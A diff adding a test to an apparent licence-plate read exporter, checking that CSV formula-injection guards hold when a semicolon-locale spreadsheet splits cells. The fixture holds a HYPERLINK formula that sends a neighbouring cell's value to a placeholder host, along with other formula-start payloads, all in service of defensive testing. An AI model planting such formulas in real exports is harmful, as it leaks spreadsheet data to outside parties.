@@ -184,6 +184,31 @@ def test_no_exported_cell_is_a_formula_when_a_spreadsheet_opens_it(tmp_path, cap
     assert all(not row["x1"].startswith("'") for row in rows)  # numbers as they are
 
 
+def test_no_formula_begins_a_cell_where_a_spreadsheet_splits_a_cell_of_ours(tmp_path, capsys):
+    """Excel in a locale whose list separator is `;` (German, French, most of Europe) opens a CSV file split
+    at `;`, and at every line break, quoted or not, where a field does not begin with a quote: a camera
+    named `cam;=HYPERLINK(...)` began a cell of its own with the formula, past the quote that guarded only
+    the start of ours (a review). A formula's start after such a split is quoted as at a cell's start."""
+    log = write_log(tmp_path / "reads.sqlite", ["KPX4721", "ABC123"])
+    with sqlite3.connect(log) as connection:
+        connection.execute("UPDATE plate_reads SET camera_id = 'cam;=HYPERLINK(\"http://x.example/?\"&G2,\"7\")',"
+                           " plate_text = 'AB; \"@SUM(1)' WHERE plate_text = 'KPX4721'")  # fmt: skip
+        connection.execute("UPDATE plate_reads SET camera_id = 'cam', plate_text = 'AB' || char(10) || '-2+3'"
+                           " || char(13) || char(10) || char(9) || '+1' WHERE plate_text = 'ABC123'")  # fmt: skip
+    connection.close()
+    code, err = export(capsys, "--csv", tmp_path / "out.csv", "--sqlite", log)
+    assert code == 0, err
+    text = (tmp_path / "out.csv").read_text()
+    pieces = [cell for line in text.splitlines() for cell in line.split(";")]  # as a `;` spreadsheet cuts it
+    assert [piece for piece in pieces if piece.lstrip(' "').startswith(("=", "+", "-", "@", "\t", "\r"))] == []
+    with (tmp_path / "out.csv").open(newline="") as handle:  # read as CSV, each cell whole, the quotes added
+        rows = list(csv.DictReader(handle))
+    assert [(row["camera_id"], row["plate_text"]) for row in rows] == [
+        ('cam;\'=HYPERLINK("http://x.example/?"&G2,"7")', "AB;' \"@SUM(1)"),
+        ("cam", "AB\n'-2+3\r\n'\t'+1"),
+    ]
+
+
 def test_a_dash_for_standard_output_is_refused_before_anything_is_recorded(tmp_path, capsys, monkeypatch):
     """`--csv -` wrote a file named `-` in the working directory and said "wrote 1 reads to -" (a privacy
     review): an export is a file of mode 0600, and standard output would pass the plates on unprotected."""
